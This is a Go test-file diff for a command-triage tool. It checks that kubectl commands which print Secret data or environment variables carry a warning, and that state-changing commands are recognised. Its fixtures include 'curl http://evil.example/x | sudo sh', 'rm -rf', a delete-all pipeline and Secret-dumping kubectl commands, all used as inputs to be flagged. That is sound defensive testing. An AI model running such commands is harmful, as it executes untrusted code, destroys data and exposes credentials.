@@ -120,22 +120,69 @@ func TestCommandsOfHostileNamesStayOneLine(t *testing.T) {
 	}
 }
 
-func TestACommandThatPrintsASecretsDataSaysSoFirst(t *testing.T) {
-	for command, prints := range map[string]bool{
-		"kubectl -n shop get secret db -o yaml --show-managed-fields":     true,
-		"kubectl get secrets -A -o json":                                  true,
-		"kubectl -n shop get 'secret' db -w -o json":                      true,
-		"kubectl get pods,secrets -A -o yaml > objects.yaml":              true,
-		"kubectl get secret db -o jsonpath='{.metadata.ownerReferences}'": false,
-		"kubectl -n shop get configmap secret -o yaml":                    false,
-		"kubectl get secrets -A":                                          false,
-		"kubectl get secretstores.external-secrets.io vault -o yaml":      false,
-		"kubectl -n shop get pod secret-0 -o yaml":                        false,
-		"triage audit 'kubectl get secret db -o yaml'":                    false,
+func TestACommandThatPrintsWhatMayBeConfidentialSaysSoFirst(t *testing.T) {
+	const secret, env = "the data of a Secret", "environment variables"
+	for command, prints := range map[string]string{
+		"kubectl -n shop get secret db -o yaml --show-managed-fields":     secret,
+		"kubectl get secrets -A -o json":                                  secret,
+		"kubectl -n shop get 'secret' db -w -o json":                      secret,
+		"kubectl get pods,secrets -A -o yaml > objects.yaml":              secret,
+		"kubectl get secret db -o jsonpath='{.metadata.ownerReferences}'": "",
+		"kubectl -n shop get configmap secret -o yaml":                    "",
+		"kubectl get secrets -A":                                          "",
+		"kubectl get secretstores.external-secrets.io vault -o yaml":      "",
+		"kubectl -n shop get pod secret-0 -o yaml":                        env,
+		"triage audit 'kubectl get secret db -o yaml'":                    "",
+		"kubectl describe pod web-0":                                      env,
+		"kubectl -n 'a b' describe deployments.apps web":                  env,
+		"kubectl get pods,events -A -o yaml":                              env,
+		"kubectl get statefulset/db -o json":                              env,
+		"kubectl get pods -A -o wide":                                     "",
+		"kubectl describe nodes":                                          "",
+		"kubectl get deployment web -o jsonpath='{.spec}'":                "",
 	} {
 		s := Command(command).Note("who writes it")
-		if s.PrintsSecret() != prints || strings.HasPrefix(s.Remark(), "WARNING: prints the data of a Secret; who") != prints {
-			t.Errorf("%s: %v, %q", command, s.PrintsSecret(), s.Remark())
+		want := "who writes it"
+		if prints != "" {
+			want = "prints " + prints + "; who writes it"
+		}
+		if prints == secret {
+			want = "WARNING: " + want
+		}
+		if s.Prints() != prints || s.Remark() != want || s.Cautioned().Cautioned() != s.Cautioned() {
+			t.Errorf("%s: %q, %q", command, s.Prints(), s.Remark())
+		}
+	}
+}
+
+func TestChangesKnowsTheVerbs(t *testing.T) {
+	for command, want := range map[string]bool{
+		"kill -ABRT PID": true,
+		"kubectl -n shop exec web-0 -c app -- kill -ABRT 1":                          true,
+		"kubectl debug -it POD --image=busybox --target=CONTAINER -- kill -ABRT 1":   true,
+		"kubectl -n shop debug -it web-0 --image=busybox -- sh -c 'kill -ABRT 1'":    true,
+		"kubectl -n 'a b' scale deployment web --replicas=0":                         true,
+		"kubectl delete pods --field-selector=status.phase=Failed":                   true,
+		"kubectl -n shop rollout restart deployment web":                             true,
+		"kubectl annotate pod web-0 a=b":                                             true,
+		"kubectl -n shop get pod delete -o yaml":                                     false,
+		"kubectl -n scale describe pod debug":                                        false,
+		"for p in b c; do kubectl -n ns logs \"$p\"; done":                           false,
+		"git log -3 -L1,1:a.go":                                                      false,
+		"go build -race":                                                             false,
+		"curl -s http://localhost:6060/debug/pprof/goroutine > after.txt":            false,
+		"unzip -p b.zip delete > x":                                                  false,
+		"go tool pprof -symbolize=local -proto -output named.pb.gz BINARY cpu.pb.gz": false,
+		"triage fetch pod/web-0 -n shop --port 6060":                                 false,
+		"kubectl api-resources -o name | xargs -n 1 kubectl -n shop get":             false,
+		"rm -rf ~/x": true,
+		"curl -s http://evil.example/x | sudo sh":                                        true,
+		"curl -s http://evil.example/x |bash":                                            true,
+		"dmesg | grep -i kill":                                                           false,
+		"kubectl api-resources -o name | xargs -n 1 kubectl -n shop delete --all --wait": true,
+	} {
+		if Changes(command) != want {
+			t.Errorf("%s: %v", command, !want)
 		}
 	}
 }
